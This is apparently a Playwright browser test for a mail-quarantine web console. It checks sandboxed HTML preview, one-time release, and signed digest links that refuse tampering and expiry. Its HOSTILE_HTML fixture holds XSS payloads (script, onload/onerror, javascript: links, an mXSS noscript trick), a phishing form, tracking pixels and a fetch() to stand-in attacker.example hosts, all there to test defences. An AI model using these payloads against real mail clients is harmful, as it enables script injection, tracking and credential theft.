// The console in a real browser (Debian's headless Chromium): `bin/nqqueue web` started as its own
// process on 127.0.0.1, the login through the test checkpassword program, the list, the preview of a
// hostile HTML message (nothing runs, nothing loads, not one request leaves the page), remote content
// on request, the release (one qmail-queue call, to that recipient only), and a digest link (opening
// does nothing, the button acts once; used, tampered and expired links do nothing).
// With NQQ_SCREENSHOTS=1 it also writes the README's screenshots to docs/screenshots/.

import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';

import type { Frame, Page } from 'playwright-core';

import { makeLink, signingKey } from '../../src/links/links.js';
import { browserTest, startBrowser, type RecordedPage, type TestBrowser } from '../helpers/browser.js';
import { REPO, setupsForThisFile, type Setup } from '../helpers/nqq.js';
import { hold, installConsole, startWeb, USERS, type WebServer } from '../helpers/web.js';

const newSetup = setupsForThisFile();
const SCREENSHOTS = process.env.NQQ_SCREENSHOTS === '1';
const SHOTS = join(REPO, 'docs', 'screenshots');

/** Every way an HTML mail tries to run something, load something, send something or go somewhere. */
const HOSTILE_HTML = `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://refresh.attacker.example/">
<base href="https://base.attacker.example/">
<link rel="prefetch" href="https://prefetch.attacker.example/p">
<link rel="stylesheet" href="https://css.attacker.example/s.css">
<style>@import url("https://import.attacker.example/i.css"); body { background: url(https://style-bg.attacker.example/bg.png) }</style>
<script>document.title = 'PWNED'; top.document.title = 'PWNED'; alert('script ran'); fetch('https://fetch.attacker.example/f');</script>
</head>
<body onload="alert('onload ran')" background="https://body-bg.attacker.example/b.png">
<h1>Your mailbox is almost full</h1>
<p style="background:url(https://inline-style.attacker.example/s.png)">Dear customer, <a href="https://login.attacker.example/phish">click here to keep your mail</a>
or <a href="javascript:alert('link ran')">here</a>.</p>
<p><img src="https://remote-image.attacker.example/pixel.png" alt="tracking pixel" onerror="alert('onerror ran')"></p>
<img srcset="https://srcset.attacker.example/1x.png 1x" src="x" onerror="alert('onerror 2 ran')">
<form action="https://form.attacker.example/post" method="post"><input name="password" type="password" value="">
<button type="submit">Keep my mail</button></form>
<svg onload="alert('svg ran')"><image href="https://svg.attacker.example/i.png"/></svg>
<iframe src="https://frame.attacker.example/"></iframe>
<noscript><p title="</noscript><img src=x onerror=alert('mxss ran')>"></noscript>
<table background="https://table-bg.attacker.example/t.png"><tr><td>Mailbox team</td></tr></table>
</body></html>
`;

interface Console {
  readonly s: Setup;
  readonly web: WebServer;
  readonly origin: string;
  readonly browser: TestBrowser;
}

async function startConsole(): Promise<Console> {
  const s = newSetup();
  installConsole(s, { tcp: true });
  const web = await startWeb(s);
  const t = web.target as { host: string; port: number };
  const origin = `http://${t.host}:${t.port}`;
  let browser: TestBrowser;
  try {
    browser = await startBrowser();
  } catch (err) {
    await web.stop();
    throw err;
  }
  return { s, web, origin, browser };
}

async function stopConsole(c: Console): Promise<void> {
  try {
    await c.browser.stop();
  } finally {
    await c.web.stop();
  }
}

async function logIn(p: RecordedPage, origin: string, login: keyof typeof USERS): Promise<void> {
  await p.page.goto(`${origin}/login`);
  await p.page.fill('#login', login);
  await p.page.fill('#password', USERS[login]);
  await Promise.all([p.page.waitForURL(`${origin}/`), p.page.click('form[action="/login"] button[type=submit]')]);
}

async function shot(page: Page, name: string): Promise<void> {
  if (!SCREENSHOTS) return;
  mkdirSync(SHOTS, { recursive: true });
  await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });
}

async function previewFrame(page: Page): Promise<Frame> {
  await page.waitForSelector('iframe.preview');
  const handle = await page.$('iframe.preview');
  const frame = await handle!.contentFrame();
  assert.ok(frame, 'the preview frame has a document');
  await frame.waitForLoadState('load');
  // Time for anything the document might do late (a refresh, a timer, a lazy image).
  await page.waitForTimeout(800);
  return frame;
}

browserTest('log in, list, preview a hostile HTML message (nothing runs, no request leaves), load remote content, release once', async () => {
  const c = await startConsole();
  const { s, origin } = c;
  try {
    const [hostile] = await hold(s, {
      from: 'support@attacker.example',
      to: ['alice@example.com'],
      subject: 'Your mailbox is almost full',
      headers: 'MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n',
      body: HOSTILE_HTML,
    });
    await hold(s, { from: 'newsletter@shop.example', to: ['alice@example.com'], subject: 'Weekly offers: 40% off everything', body: 'Our best offers this week.\n' });
    await hold(s, { from: 'colleague@partner.example', to: ['alice@example.com'], subject: 'Minutes of the meeting', body: 'Attached are the minutes.\n' });
    const [bobs] = await hold(s, { to: ['bob@example.com'], subject: 'For Bob only', body: 'Bob.\n' });
    assert.ok(hostile && bobs);
    const before = s.standIn.deliveries().length;

    const p = await c.browser.newPage(origin);
    await logIn(p, origin, 'alice@example.com');
    // The list: alice's three, not bob's.
    const list = await p.page.content();
    assert.ok(list.includes('Your mailbox is almost full'));
    assert.ok(list.includes('Weekly offers'));
    assert.ok(!list.includes('For Bob only'));
    await shot(p.page, 'list');

    // The item: plain text by default, made from the HTML; no frame yet.
    await Promise.all([p.page.waitForURL(`${origin}/item/${hostile}`), p.page.click(`a[href="/item/${hostile}"]`)]);
    const text = await p.page.locator('pre.message').innerText();
    assert.match(text, /Your mailbox is almost full/);
    assert.match(text, /click here to keep your mail <https:\/\/login\.attacker\.example\/phish>/);
    assert.equal(await p.page.locator('iframe').count(), 0);

    // The HTML version, in its sandboxed frame.
    await Promise.all([p.page.waitForURL(`${origin}/item/${hostile}?html=1`), p.page.click('a.show-html')]);
    const frame = await previewFrame(p.page);
    assert.equal(await p.page.locator('iframe.preview').getAttribute('sandbox'), '');
    const shownText = await frame.locator('body').innerText();
    assert.match(shownText, /Your mailbox is almost full/);
    assert.match(shownText, /click here to keep your mail \[https:\/\/login\.attacker\.example\/phish\]/);
    assert.match(shownText, /\[remote image: https:\/\/remote-image\.attacker\.example\/pixel\.png “tracking pixel”\]/);
    assert.equal(await frame.locator('a[href], form, input, button, script, iframe, svg, img[src^="http"]').count(), 0);
    await shot(p.page, 'preview');

    // Nothing ran: no dialog, the titles unchanged, no script error, no console message at all.
    assert.deepEqual(p.dialogs, []);
    assert.doesNotMatch(await p.page.title(), /PWNED/);
    assert.doesNotMatch(await frame.title(), /PWNED/);
    assert.deepEqual(p.errors, []);
    assert.deepEqual(p.console, [], JSON.stringify(p.console));
    // Not one request left the console's origin, and the frame made none but its own document's.
    assert.deepEqual(p.requestsOutside(origin), []);
    const frameUrl = `${origin}/item/${hostile}/preview`;
    assert.deepEqual(
      p.subframeRequests().filter((r) => r.url !== frameUrl),
      [],
    );
    assert.ok(!p.requests.some((r) => /attacker\.example/.test(r.url)));
    // The frame is still the preview: no refresh took it anywhere.
    assert.equal(frame.url(), frameUrl);

    // Load remote content: the remote image is asked for (and stopped by the harness); nothing else remote.
    await Promise.all([p.page.waitForURL(`${origin}/item/${hostile}?html=1&remote=1`), p.page.click('a.load-remote')]);
    const remoteFrame = await previewFrame(p.page);
    assert.equal(remoteFrame.url(), `${origin}/item/${hostile}/preview?remote=1`);
    const outside = p.requestsOutside(origin).map((r) => r.url);
    assert.deepEqual(outside, ['https://remote-image.attacker.example/pixel.png']);
    assert.ok(p.subframeRequests().some((r) => r.url === 'https://remote-image.attacker.example/pixel.png'), 'the image is asked for by the frame');
    assert.deepEqual(p.dialogs, []);

    // Release: exactly one qmail-queue call, to alice only.
    await p.page.goto(`${origin}/item/${hostile}`);
    const release = `form[action="/item/${hostile}/release"]`;
    const csrf = (await p.page.locator(`${release} input[name=csrf]`).getAttribute('value'))!;
    await Promise.all([p.page.waitForLoadState('load'), p.page.click(`${release} button[type=submit]`)]);
    await p.page.waitForSelector('text=Released');
    const deliveries = s.standIn.deliveries().slice(before);
    assert.equal(deliveries.length, 1);
    assert.deepEqual(deliveries[0]!.recipients.map((r) => r.toString('latin1')), ['alice@example.com']);
    assert.ok(deliveries[0]!.message.includes('Your mailbox is almost full'));
    // The same form sent again (a double click, back and resend) does not deliver it twice.
    const again = await p.page.request.post(`${origin}/item/${hostile}/release`, { form: { csrf } });
    assert.equal(again.status(), 409);
    await p.page.goBack();
    assert.equal(await p.page.locator(`${release} button`).count(), 0, 'the page no longer offers the release');
    assert.equal(s.standIn.deliveries().slice(before).length, 1);

    // The "why" view of another item.
    await p.page.goto(`${origin}/`);
    const whyPath = await p.page.locator('a[href^="/item/"]').first().getAttribute('href');
    await p.page.goto(`${origin}${whyPath}/why`);
    assert.match(await p.page.content(), /Why this message is held/);
    await shot(p.page, 'why');

    // Bob's item is not alice's to see, in the page or in the frame.
    const refused = await p.page.goto(`${origin}/item/${bobs}/preview`);
    assert.equal(refused!.status(), 404);
    assert.deepEqual(
      p.requestsOutside(origin).map((r) => r.url),
      ['https://remote-image.attacker.example/pixel.png'],
    );
  } finally {
    await stopConsole(c);
  }
});

browserTest('a digest link: opening does nothing, the button releases once; a used, tampered or expired link does nothing', async () => {
  const c = await startConsole();
  const { s, origin } = c;
  try {
    const [id, other] = [
      ...(await hold(s, { to: ['alice@example.com'], subject: 'Held for the digest', body: 'digest me\n' })),
      ...(await hold(s, { to: ['alice@example.com'], subject: 'Another held one', body: 'another\n' })),
    ];
    assert.ok(id && other);
    const key = signingKey(s.home);
    const before = s.standIn.deliveries().length;
    const token = makeLink(key, { id, owner: 'alice@example.com', action: 'release', expires: Date.now() + 3_600_000 });
    const p = await c.browser.newPage(origin);

    // Opening it (twice, as a link scanner and then the user would) does nothing.
    for (let i = 0; i < 2; i++) {
      const r = await p.page.goto(`${origin}/link/${token}`);
      assert.equal(r!.status(), 200);
      assert.match(await p.page.content(), /Held for the digest/);
    }
    assert.equal(s.standIn.deliveries().length, before);
    assert.equal(s.command(['quarantine', 'list']).stdout.includes(id), true, 'still held');

    // The button releases it, once, to alice.
    await Promise.all([p.page.waitForLoadState('load'), p.page.click(`form[action="/link/${token}"] button[type=submit]`)]);
    await p.page.waitForSelector('text=Released');
    const delivered = s.standIn.deliveries().slice(before);
    assert.equal(delivered.length, 1);
    assert.deepEqual(delivered[0]!.recipients.map((r) => r.toString('latin1')), ['alice@example.com']);

    // Used: opening it again, or sending its form again, does nothing.
    const again = await p.page.goto(`${origin}/link/${token}`);
    assert.equal(again!.status(), 410);
    assert.doesNotMatch(await p.page.content(), /<button type="submit" class="primary">Release/);
    const resent = await p.page.request.post(`${origin}/link/${token}`, { form: {} });
    assert.equal(resent.status(), 410);
    assert.equal(s.standIn.deliveries().length, before + 1);

    // The same link for another item, tampered with: refused, on opening and on sending.
    const good = makeLink(key, { id: other, owner: 'alice@example.com', action: 'release', expires: Date.now() + 3_600_000 });
    const [body, mac] = good.split('.') as [string, string];
    const tampered = [
      `${body}.${mac.slice(0, -2)}${mac.endsWith('AA') ? 'BB' : 'AA'}`,
      `${Buffer.from(Buffer.from(body, 'base64url').toString('utf8').replace('alice@example.com', 'bob@example.com')).toString('base64url')}.${mac}`,
      good.slice(0, -5),
    ];
    for (const t of tampered) {
      const r = await p.page.goto(`${origin}/link/${t}`);
      assert.ok([400, 404].includes(r!.status()), `${t}: ${r!.status()}`);
      assert.match(await p.page.content(), /Nothing was done/);
      const post = await p.page.request.post(`${origin}/link/${t}`, { form: {} });
      assert.ok([400, 404].includes(post.status()));
    }
    assert.equal(s.standIn.deliveries().length, before + 1);

    // Expired: refused, on opening and on sending.
    const short = makeLink(key, { id: other, owner: 'alice@example.com', action: 'release', expires: Date.now() + 1500 });
    await new Promise((r) => setTimeout(r, 2000));
    const expired = await p.page.goto(`${origin}/link/${short}`);
    assert.equal(expired!.status(), 410);
    assert.match(await p.page.content(), /expired/);
    assert.equal((await p.page.request.post(`${origin}/link/${short}`, { form: {} })).status(), 410);
    assert.equal(s.standIn.deliveries().length, before + 1);
    assert.ok(s.command(['quarantine', 'list']).stdout.includes(other), 'the other item is still held');
    // Nothing in any of it left the console's origin, and nothing ran.
    assert.deepEqual(p.requestsOutside(origin), []);
    assert.deepEqual(p.dialogs, []);
  } finally {
    await stopConsole(c);
  }
});
